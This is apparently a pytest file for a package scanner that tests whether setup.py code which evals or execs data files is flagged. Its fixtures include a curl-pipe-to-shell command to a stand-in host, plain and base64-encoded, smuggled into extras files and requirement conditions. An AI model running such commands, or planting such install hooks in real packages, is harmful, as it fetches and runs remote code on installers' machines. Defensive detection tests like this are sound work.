"""Data files that are evaluated: what they hold decides, where it can be looked at."""

from __future__ import annotations

from pathlib import Path

import pytest

from mlsupply.evidence.explained.plain_data import MAX_FILES
from mlsupply.evidence.package import look_inside
from mlsupply.evidence.pool import Pool
from tests.made_wheels import METADATA, put
from tests.test_archives import tarred, zipped

SETUP = b"from pathlib import Path\nfrom setuptools import setup\nhere = Path(__file__).parent\n"
EVALUATED = SETUP + b"setup(extras_require=eval((here / 'extras.txt').read_text()))\n"
LITERAL = b"{'all': ['numpy>=1.26'], 'dev': []}\n"
CODE = b"__import__('os').system('curl -s https://a.example/i | sh') or {}\n"


def evaluates(folder: Path, files: dict[str, bytes], name: str = "demo-1.0.tar.gz") -> bool:
    members = [(f"demo-1.0/{path}", data) for path, data in {"PKG-INFO": METADATA, **files}.items()]
    with Pool(1) as pool:
        facts = look_inside(put(folder, name, zipped(members) if name.endswith(".zip") else tarred(members)), pool).code
    return "runs-decoded" in {fact.behaviour for fact in facts}


@pytest.mark.parametrize("name", ["demo-1.0.tar.gz", "demo-1.0.zip"])
def test_a_literal_in_a_data_file_may_be_evaluated(name: str, tmp_path: Path) -> None:
    assert not evaluates(tmp_path, {"setup.py": EVALUATED, "extras.txt": LITERAL}, name)
    assert evaluates(tmp_path, {"setup.py": EVALUATED, "extras.txt": CODE}, name)


@pytest.mark.parametrize(
    "files",
    [
        {"extras.txt": LITERAL, "docs/extras.txt": CODE},
        {"extras.txt": b"'" + CODE.replace(b"'", b'"').strip() + b"'"},
        {"extras.txt": b"[" + b"1," * 40_000 + b"]"},
        {"extras.txt": b"\xff" + LITERAL},
        {},
        {"extras.txt": LITERAL, **{f"more/{number}/extras.txt": LITERAL for number in range(MAX_FILES)}},
    ],
    ids=["another by this name", "text", "too large to be looked at", "no text", "not there", "more than are read"],
)
def test_what_may_be_more_than_a_literal_is_told(files: dict[str, bytes], tmp_path: Path) -> None:
    assert evaluates(tmp_path, {"setup.py": EVALUATED, **files})


@pytest.mark.parametrize(
    "text",
    [
        b"exec((here / 'extras.txt').read_text())\n",
        b"import base64\neval(base64.b64decode((here / 'extras.txt').read_bytes()))\n",
    ],
    ids=["run", "decoded first"],
)
def test_only_what_is_evaluated_as_it_stands_is_looked_at(text: bytes, tmp_path: Path) -> None:
    assert evaluates(tmp_path, {"setup.py": SETUP + text, "extras.txt": LITERAL})


LISTED = b"# Tools: what they need.\n\nblack == 26.3.1 ; python_version >= '3.11'\ntomli >=1.1,<3\n"
CONDITIONS = SETUP + (
    b"for line in (here / 'extras.txt').read_text().splitlines():\n"
    b"    name, _, condition = line.partition(';')\n    wanted = eval(condition, {'python_version': '3.11'})\n"
)


@pytest.mark.parametrize(
    ("listed", "told"),
    [
        (LISTED, False),
        (LISTED + b"x ==1 ; " + CODE, True),
        (LISTED + b"x ==1 ; python_version > '3' and " + CODE, True),
        (LISTED + b'x ==1 ; name == "' + CODE.strip() + b'"\n', True),
        (LISTED + b"# " + CODE, True),
        (LISTED + b"aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBhLmIvaXxzaCIp\n", True),
    ],
    ids=["requirements", "code", "code behind a condition", "code compared", "code in a remark", "no requirement"],
)
def test_conditions_of_requirements_may_be_evaluated(listed: bytes, told: bool, tmp_path: Path) -> None:
    assert evaluates(tmp_path, {"setup.py": CONDITIONS, "extras.txt": listed}) is told


def test_a_folder_is_looked_at_in_the_same_way(tmp_path: Path) -> None:
    found = []
    for data in (LITERAL, CODE):
        for name, text in {"setup.py": EVALUATED, "PKG-INFO": METADATA, "extras.txt": data}.items():
            put(tmp_path / "tree", name, text)
        with Pool(1) as pool:
            found.append("runs-decoded" in {fact.behaviour for fact in look_inside(tmp_path / "tree", pool).code})
    assert found == [False, True]
